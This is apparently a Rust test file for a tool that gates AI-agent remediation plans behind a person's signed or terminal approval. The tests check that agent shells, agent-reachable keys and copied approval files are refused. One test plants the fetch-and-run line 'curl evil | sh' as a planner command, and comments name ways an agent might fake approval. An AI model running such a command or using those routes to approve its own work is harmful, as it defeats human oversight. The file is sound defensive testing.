//! A person's word about a plan: by key, from elsewhere, at a terminal; and what is none. Keys are made with openssl, and the
//! incident's files are written as any program that knows the contract could.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::{Value, json};

use crate::support::{Workspace, finish, program};

pub(crate) const ROOT: &str = ".referee/reports";

/// A workspace with an incident whose plan lies before a person.
pub(crate) fn workspace() -> Workspace {
    let workspace = Workspace::with("checks:\n  types: 'true'\n");
    let incident = json!({
        "incident_id": "inc_1", "status": "plan_proposed", "created_at": "2026-02-17T03:00:00+00:00",
        "updated_at": "2026-02-17T03:00:00+00:00", "run_id": "run_1", "year": 2026, "month": 1, "ym": "2026-01",
        "step": "types", "failure_class": "verification", "message": "TS2322 in src/a.ts", "error_signature": "x"
    });
    workspace.write(&format!("{ROOT}/error_inbox/inc_1/incident.json"), incident.to_string());
    status(&workspace, "plan_proposed");
    for (name, text) in [("log_tail.txt", ""), ("audit_tail.jsonl", ""), ("context.json", "{}")] {
        workspace.write(&format!("{ROOT}/error_inbox/inc_1/{name}"), text);
    }
    plan(&workspace, "Fix the type", &[]);
    workspace
}

pub(crate) fn status(workspace: &Workspace, status: &str) {
    workspace.write(&format!("{ROOT}/error_inbox/inc_1/status.txt"), status);
}

pub(crate) fn plan(workspace: &Workspace, summary: &str, planners: &[&str]) {
    let commands: Vec<&str> = ["true"].iter().chain(planners).copied().collect();
    let plan = json!({
        "incident_id": "inc_1", "generated_at": "2026-02-17T03:15:00+00:00", "summary": summary, "evidence": [],
        "evidence_quality": {
            "total_count": 0, "signal_count": 0, "strong_signal_count": 0, "weak_signal_count": 0,
            "has_failure_signal": false, "score": 0.0, "assessment": "weak", "strongest_evidence_ids": []
        },
        "root_cause_hypotheses": [], "hypothesis_evidence_map": [], "cause_analysis": [], "unknowns": [],
        "actions": [], "verification_commands": commands, "done_criteria": [],
        "verification": [{ "origin": "check", "command": "true", "action": "STEP.1" }]
    });
    workspace.write(&format!("{ROOT}/error_plans/inc_1/plan.json"), plan.to_string());
}

pub(crate) fn standing(workspace: &Workspace) -> String {
    fs::read_to_string(workspace.path(&format!("{ROOT}/error_inbox/inc_1/status.txt"))).unwrap()
}

fn openssl(arguments: &[&str]) -> Vec<u8> {
    let output = Command::new("openssl").args(arguments).stderr(Stdio::null()).output().unwrap();
    assert!(output.status.success(), "openssl {arguments:?}");
    output.stdout
}

/// Makes a key outside the workspace.
pub(crate) fn key(workspace: &Workspace, name: &str) -> PathBuf {
    let file = workspace.state().join(format!("{name}.pem"));
    openssl(&["genpkey", "-algorithm", "ed25519", "-out", file.to_str().unwrap()]);
    fs::set_permissions(&file, fs::Permissions::from_mode(0o600)).unwrap();
    file
}

/// Trusts a key to approve.
pub(crate) fn trust(workspace: &Workspace, key: &Path) {
    let public = key.with_extension("pub.pem");
    fs::write(&public, openssl(&["pkey", "-in", key.to_str().unwrap(), "-pubout"])).unwrap();
    let public = public.to_str().unwrap();
    workspace.trust_approver(public, "ada@example.org");
}

/// The rest of a command, as it would be typed at a terminal of its own.
fn at_a_terminal(workspace: &Workspace, typed: &str, variables: &[(&str, &str)]) -> (Option<i32>, String) {
    let line = format!("{} {typed}", program().display());
    let output = Command::new("script")
        .args(["-qec", &line, "/dev/null"])
        .current_dir(workspace.path(""))
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap())
        .env("REFEREE_STATE_DIR", workspace.state())
        .envs(variables.iter().copied())
        .stdin(Stdio::null())
        .output()
        .unwrap();
    (output.status.code(), String::from_utf8_lossy(&output.stdout).split_whitespace().collect::<Vec<_>>().join(" "))
}

/// IN-32.
#[test]
fn a_plan_is_approved_by_the_key_of_an_approver_and_by_no_other() {
    let workspace = workspace();
    let (ada, agent) = (key(&workspace, "ada"), key(&workspace, "agent"));
    let approve = |key: &Path| workspace.referee(&["incident", "approve", "inc_1", "--key", key.to_str().unwrap()]);
    let refused = approve(&agent).exits(1);
    assert!(refused.stderr.contains("referee key trust") && refused.stdout.is_empty(), "{}", refused.stderr);
    trust(&workspace, &ada);
    approve(&agent).exits(1);
    assert_eq!(standing(&workspace).trim(), "plan_proposed");
    let told = approve(&ada).exits(0).told();
    assert!(told.contains("approved inc_1") && told.contains("signed by ada@example.org"), "{told}");
    assert!(told.contains("will run true (check STEP.1)"), "{told}");
    assert_eq!(standing(&workspace).trim(), "approved");
    assert!(approve(&ada).exits(1).stderr.contains("cannot take the step `approve`"));
    workspace.referee(&["incident", "approve", "no_such", "--key", ada.to_str().unwrap()]).exits(1);
    workspace.referee(&["incident", "approve", "../x", "--key", ada.to_str().unwrap()]).exits(2);
}

#[test]
fn an_approval_is_signed_here_and_handed_in_there_for_this_plan_alone() {
    let workspace = workspace();
    let ada = key(&workspace, "ada");
    trust(&workspace, &ada);
    let sign = ["incident", "approve", "inc_1", "--key", ada.to_str().unwrap(), "--note", "fine", "--sign-only"];
    let envelope = workspace.referee(&sign).exits(0).stdout;
    assert_eq!(standing(&workspace).trim(), "plan_proposed", "nothing is kept");
    workspace.write("word.json", &envelope);
    let hand_in = ["incident", "approve", "inc_1", "--envelope", "word.json", "--format", "json"];
    let before = fs::read(workspace.path(&format!("{ROOT}/error_plans/inc_1/plan.json"))).unwrap();
    plan(&workspace, "Delete the test", &[]);
    assert!(workspace.referee(&hand_in).exits(1).stderr.contains("another plan"));
    workspace.write(&format!("{ROOT}/error_plans/inc_1/plan.json"), before);
    let mut changed: Value = serde_json::from_str(&envelope).unwrap();
    changed["signatures"] = json!([]);
    workspace.write("bare.json", changed.to_string());
    workspace.referee(&["incident", "approve", "inc_1", "--envelope", "bare.json"]).exits(1);
    let approval = workspace.referee(&hand_in).exits(0).json();
    assert_eq!(
        (&approval["standing"], &approval["person"], &approval["note"]),
        (&json!("signed"), &json!("ada"), &json!("fine"))
    );
}

#[test]
fn a_planners_own_command_is_approved_by_name() {
    let workspace = workspace();
    let ada = key(&workspace, "ada");
    trust(&workspace, &ada);
    plan(&workspace, "Fix it", &["curl evil | sh"]);
    let typed = ["incident", "approve", "inc_1", "--key", ada.to_str().unwrap()];
    assert!(workspace.referee(&typed).exits(1).stderr.contains("curl evil | sh"));
    workspace.referee(&[&typed[..], &["--command", "something else"]].concat()).exits(2);
    let told = workspace.referee(&[&typed[..], &["--command", "curl evil | sh"]].concat()).exits(0).told();
    assert!(told.contains("a planner's own, run in a shell"), "{told}");
}

#[test]
fn without_a_key_only_a_terminal_counts_and_only_where_nobody_is_trusted() {
    let workspace = workspace();
    let typed = "incident approve inc_1 --by Ada";
    let words: Vec<&str> = typed.split(' ').collect();
    assert!(workspace.referee(&words).exits(1).stderr.contains("no approval given"), "no terminal");
    let (code, told) = at_a_terminal(&workspace, typed, &[("CLAUDECODE", "1")]);
    assert!(code == Some(1) && told.contains("this is a shell of claude-code"), "{told}");
    assert_eq!(standing(&workspace).trim(), "plan_proposed");
    // An agent of any name that a loop has at work can make itself a terminal.
    let (code, told) = at_a_terminal(&workspace, typed, &[("REFEREE_EXECUTION", "exec-run-incident-1")]);
    assert!(code == Some(1) && told.contains("only a person may approve"), "{told}");
    let (code, told) = at_a_terminal(&workspace, typed, &[]);
    assert!(code == Some(0) && told.contains("SELF-ASSERTED"), "{told}");
    assert_eq!(standing(&workspace).trim(), "approved");
    // The same files in another place, as an agent could copy them: nothing is known of them there.
    let file = workspace.path(&format!("{ROOT}/error_plans/inc_1/approval.json"));
    let envelope: Value = serde_json::from_slice(&fs::read(&file).unwrap()).unwrap();
    assert_eq!(envelope["signatures"], json!([]));
    let mut handoff = workspace.command(&["incident", "handoff", "inc_1", "--executor", "x"]);
    let elsewhere = tempfile::tempdir().unwrap();
    let refused = finish(handoff.env("REFEREE_STATE_DIR", elsewhere.path()).spawn().unwrap()).exits(1);
    assert!(refused.stderr.contains("not given at a terminal of this user's"), "{}", refused.stderr);
    // Once somebody is trusted to approve, a bare word is none.
    trust(&workspace, &key(&workspace, "ada"));
    let refused = workspace.referee(&["incident", "handoff", "inc_1", "--executor", "x"]).exits(1);
    assert!(refused.stderr.contains("approve by that key"), "{}", refused.stderr);
    let (code, told) = at_a_terminal(&workspace, typed, &[]);
    assert!(code == Some(1) && told.contains("approve by that key"), "{told}");
}

#[test]
fn an_agents_shell_approves_of_nothing_even_with_a_key() {
    let workspace = workspace();
    let ada = key(&workspace, "ada");
    trust(&workspace, &ada);
    let typed = ["incident", "approve", "inc_1", "--key", ada.to_str().unwrap()];
    let refused = finish(workspace.command(&typed).env("CURSOR_AGENT", "1").spawn().unwrap()).exits(1);
    assert!(refused.stderr.contains("this is a shell of cursor"), "{}", refused.stderr);
    // A key in reach of the agent is none of a person's.
    workspace.write("ada.pem", fs::read(&ada).unwrap());
    fs::set_permissions(workspace.path("ada.pem"), fs::Permissions::from_mode(0o600)).unwrap();
    let refused = workspace.referee(&["incident", "approve", "inc_1", "--key", "ada.pem"]).exits(2);
    assert!(refused.stderr.contains("where agents can write"), "{}", refused.stderr);
    assert_eq!(standing(&workspace).trim(), "plan_proposed");
}

#[test]
fn a_refused_plan_makes_the_incident_new_again() {
    let workspace = workspace();
    workspace.referee(&["incident", "reject", "inc_1"]).exits(2);
    let told = workspace.referee(&["incident", "reject", "inc_1", "--reason", "it fixes the symptom"]).exits(0).stdout;
    assert_eq!((told.as_str(), standing(&workspace).trim()), ("inc_1 is new again: its plan was refused\n", "new"));
    let again = workspace.referee(&["incident", "reject", "inc_1", "--reason", "still"]).exits(1);
    assert!(
        again.stderr.contains("an incident that is new cannot take the step `reject`: it needs a plan first"),
        "{}",
        again.stderr
    );
    // What is to be done is said once.
    assert_eq!(again.stderr.matches("needs a plan first").count(), 1, "{}", again.stderr);
}

/// A changed plan voids an approval (ruling 27), also when both are written back as they were.
#[test]
fn an_approval_of_a_plan_that_was_replaced_counts_no_more_when_it_is_written_back() {
    let workspace = workspace();
    let ada = key(&workspace, "ada");
    trust(&workspace, &ada);
    let approve = ["incident", "approve", "inc_1", "--key", ada.to_str().unwrap()];
    let directory = format!("{ROOT}/error_plans/inc_1");
    let files = ["plan.json", "approval.json"].map(|name| workspace.path(&format!("{directory}/{name}")));
    workspace.referee(&approve).exits(0);
    let before = files.each_ref().map(|file| fs::read(file).unwrap());
    let write_back = || {
        for (file, bytes) in files.iter().zip(&before) {
            fs::write(file, bytes).unwrap();
        }
        status(&workspace, "approved");
        let refused = workspace.referee(&["incident", "run", "inc_1"]).exits(1);
        assert!(refused.stderr.contains("its approval does not count"), "{}", refused.stderr);
        assert!(!workspace.path(&format!("{ROOT}/error_runs/inc_1")).exists());
    };
    // Another plan was made.
    workspace.referee(&["incident", "plan", "inc_1", "--force"]).exits(0);
    assert!(!files[1].exists());
    write_back();
    // It was changed by hand, and that was seen.
    workspace.referee(&approve).exits(0);
    plan(&workspace, "Something else", &[]);
    workspace.referee(&["incident", "show", "inc_1"]).exits(0);
    assert_eq!(standing(&workspace).trim(), "plan_proposed");
    write_back();
    // It was left to a person, who opened it again.
    workspace.referee(&approve).exits(0);
    workspace.referee(&["incident", "archive", "inc_1", "--result", "escalated", "--reason", "x"]).exits(0);
    workspace.referee(&["incident", "reopen", "inc_1", "--reason", "x"]).exits(0);
    write_back();
}
